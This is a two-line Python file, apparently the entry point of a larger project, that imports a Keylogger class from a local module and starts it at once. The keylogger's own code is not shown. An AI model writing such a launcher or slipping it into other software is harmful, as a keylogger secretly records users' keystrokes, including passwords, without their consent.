from .modules.keylogger import Keylogger
Keylogger().start()
